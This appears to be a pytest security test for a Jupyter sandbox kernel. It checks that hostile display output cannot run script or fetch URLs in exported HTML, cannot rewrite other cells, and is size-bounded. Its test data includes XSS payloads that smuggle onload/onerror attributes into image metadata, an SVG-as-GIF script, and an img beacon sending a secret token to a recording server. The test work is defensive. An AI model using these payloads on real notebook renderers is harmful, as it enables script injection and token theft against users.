"""``%%ws py`` writes what a sandbox kernel sends into the user's notebook: checked, bounded, its own.

A notebook runs top to bottom with nbclient on the ws-jupyter kernel (as JupyterLab runs it, and
saving what JupyterLab saves), its ``%%ws py`` cells running code in the workspace kernel — code
a prompt-injected agent could have prepared there. Then:

- the notebook is exported with nbconvert to HTML and opened in headless Chromium: no script of
  the sandbox runs (image metadata such as ``width`` was kept as sent, and nbconvert writes it
  unquoted: ``<img width=1 onload=...>``) and nothing is fetched from a 127.0.0.1 server;
- one ``%%ws py`` cell cannot rewrite another cell's output through a shared display id
  (a front-end, nbclient included, treats a display id seen again as an update of every output
  that has it);
- a cell printing 16 MiB saves well under 1 MiB: the head, the newest lines and the count of the
  lines in between, like ``%ws run``; a value whose repr is 12 MB is shown cut, its start and end.
"""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from ws_jupyter.sandbox.kernels import MimeBundle

from ..jupyter.conftest import kernel_prefix  # noqa: F401 - the ws-jupyter kernelspec fixture
from .browser import RecordingServer, browser_unavailable, chromium, render

SECRET = "s3cr3t-token"
PNG_B64 = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC"
PRINTED_LINES = 16 * 1024  # of 1,000 characters and more: 16 MiB


def _hostile(url: str) -> str:
    exfil = f"{url}/{{}}?k={SECRET}"
    return f"""
from IPython.display import display
display({{"image/png": {PNG_B64!r}, "text/plain": "chart"}}, raw=True, metadata={{
    "image/png": {{"width": "1 onload=window.__ran=1", "height": 1, "alt": "x"}},
    "filenames": {{"image/png": {exfil.format("filenames")!r}}},
    "width": "2 onload=window.__ran=2", "isolated": "yes",
}}, transient={{"x-other": "<script>window.__ran=3</script>"}})
display({{"image/jpeg": 'x" onerror="window.__ran=4', "text/plain": "not a jpeg"}}, raw=True,
        metadata={{"image/jpeg": {{"height": "1 onerror=window.__ran=5"}}}})
display({{"image/gif": "PHN2ZyBvbmxvYWQ9J3dpbmRvdy5fX3Jhbj02Jz4=", "text/plain": "an svg filed as gif"}}, raw=True)
display({{"text/html": "<img src={exfil.format("html")}><b>framed</b>", "text/plain": "html"}}, raw=True)
"""


CELLS = [
    "%ws init {ws_dir} --no-vector --no-index",
    "%%ws py\n{hostile}",
    '%%ws py\nfrom IPython.display import display\nh = display({{"text/plain": "first cell"}}, raw=True, display_id="shared")',
    "%%ws py\nfrom IPython.display import display, update_display\n"
    'h = display({{"text/plain": "second cell"}}, raw=True, display_id="shared")\n'
    'update_display({{"text/plain": "second cell, updated"}}, raw=True, display_id="shared")',
    '%%ws py\nfrom IPython.display import update_display\nupdate_display({{"text/plain": "third cell"}}, raw=True, display_id="shared")',
    f'%%ws py\nline = "x" * 1000\nfor i in range({PRINTED_LINES}):\n    print(i, line)\nprint("the end")',
    '%%ws py\n"0123456789" * 1_200_000',  # a value whose repr is 12 MB
]


@pytest.fixture(scope="module")
def server() -> Iterator[RecordingServer]:
    with RecordingServer() as s:
        yield s


@pytest.fixture(scope="module")
def executed(kernel_prefix: Path, tmp_path_factory: pytest.TempPathFactory, server: RecordingServer) -> Any:  # noqa: F811
    import nbformat
    from nbclient import NotebookClient

    root = tmp_path_factory.mktemp("ws-py-notebook")
    (root / "ws").mkdir()
    nb = nbformat.v4.new_notebook()
    nb.metadata.kernelspec = {
        "name": "ws-jupyter",
        "display_name": "Python 3 (ws-jupyter)",
        "language": "python",
    }
    nb.cells = [
        nbformat.v4.new_code_cell(c.format(ws_dir=root / "ws", hostile=_hostile(server.url))) for c in CELLS
    ]
    NotebookClient(
        nb, kernel_name="ws-jupyter", timeout=300, resources={"metadata": {"path": str(root)}}
    ).execute()
    nbformat.write(nb, root / "run.ipynb")
    return nb, root / "run.ipynb"


def _texts(cell: Any) -> list[str]:
    return [o.get("data", {}).get("text/plain", o.get("text", "")) for o in cell.outputs]


@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.skipif(bool(browser_unavailable()), reason=str(browser_unavailable()))
def test_an_exported_notebook_runs_no_sandbox_script(executed: Any, server: RecordingServer) -> None:
    from nbconvert import HTMLExporter

    nb, path = executed
    for template in ("lab", "classic"):
        body, _ = HTMLExporter(template_name=template).from_notebook_node(nb)
        exported = path.with_name(f"run-{template}.html")
        exported.write_text(body)
        server.clear()
        with chromium() as browser:
            page = render(browser, "", url=exported.as_uri())
            assert page.evaluate("window.__ran") is None, f"{template}: a script of the sandbox ran"
            assert page.locator("img[width]").count() == 0
        assert server.requests == [], f"{template}: the export fetched {server.requests}"
    hostile = nb.cells[1]
    assert [o.output_type for o in hostile.outputs] == ["display_data"] * 4, hostile.outputs
    chart = hostile.outputs[0]
    assert chart.metadata == {"image/png": {"height": 1}}  # the whitelist: typed values only
    assert chart.data["image/png"].strip() == PNG_B64
    assert "image/jpeg" not in hostile.outputs[1].data and "image/gif" not in hostile.outputs[2].data


@pytest.mark.slow
def test_display_ids_belong_to_their_cell(executed: Any) -> None:
    nb, _ = executed
    first, second, third = nb.cells[2:5]
    assert _texts(first) == ["first cell"]  # not rewritten by the later cells' "shared"
    assert _texts(second) == ["second cell, updated"]  # an update within the cell still works
    assert _texts(third) == []  # an id this cell never displayed updates nothing
    ids = [o.get("transient", {}) for c in (first, second) for o in c.outputs]
    assert all("shared" not in json.dumps(i) for i in ids)


@pytest.mark.slow
def test_a_flood_of_output_saves_a_bounded_cell(executed: Any) -> None:
    nb, path = executed
    flood = nb.cells[5]
    saved = len(json.dumps(flood.outputs))
    assert saved < 1 << 20, f"{saved:,} bytes of output saved in one cell"
    assert path.stat().st_size < 2 << 20
    head = "".join(o.text for o in flood.outputs if o.output_type == "stream")
    head_lines = head.splitlines()
    assert head_lines[0].startswith("0 xxx") and all(line.split()[0].isdigit() for line in head_lines)
    (tail,) = [o.data["text/plain"] for o in flood.outputs if o.output_type == "display_data"]
    notice, *tail_lines = tail.splitlines()
    hidden = int(re.search(r"… ([\d,]+) lines not shown", notice).group(1).replace(",", ""))  # type: ignore[union-attr]
    assert "last_result.stdout" in notice
    assert tail_lines[-1] == "the end" and tail_lines[-2].startswith(f"{PRINTED_LINES - 1} ")
    assert len(head_lines) + hidden + len(tail_lines) == PRINTED_LINES + 1  # every line counted
    value = nb.cells[6]
    assert len(json.dumps(value.outputs)) < 1 << 20
    (shown,) = [o.data["text/plain"] for o in value.outputs if o.output_type == "execute_result"]
    assert shown.startswith("'0123") and shown.endswith("789'") and "characters not shown" in shown


def test_a_bundle_keeps_only_what_it_can_check() -> None:
    png = PNG_B64
    bundle = MimeBundle.from_message(
        {
            "data": {"image/png": png, "image/jpeg": png, "image/gif": "R0lGODlh!!", "text/plain": "t",
                     "text/x<b>/y": "z", "a" * 200 + "/b": "z", "application/vnd.ok+json": {"a": 1}},
            "metadata": {
                "image/png": {"width": 640.0, "height": "480", "unconfined": "yes", "needs_background": "dark",
                              "filenames": "http://x"},
                "image/jpeg": {"width": True, "height": 10**9},
                "filenames": {"image/png": "http://x"}, "isolated": True, "text/plain": {"x": 1},
            },
            "transient": {"display_id": "d" * 300, "other": 1},
        }
    )  # fmt: skip
    assert set(bundle.data) == {
        "image/png",
        "image/jpeg",
        "image/gif",
        "text/plain",
        "application/vnd.ok+json",
    }
    assert bundle.metadata == {"isolated": True, "image/png": {"width": 640, "needs_background": "dark"}}
    assert bundle.display_id is None  # longer than any real display id
    assert [m for m, _ in bundle.images()] == ["image/png"]  # PNG bytes filed as JPEG, bad base64: skipped
    data, metadata = bundle._repr_mimebundle_()
    assert set(data) == {"image/png", "text/plain"}
    assert base64.b64decode(data["image/png"]) == base64.b64decode(png)
    assert metadata == bundle.metadata
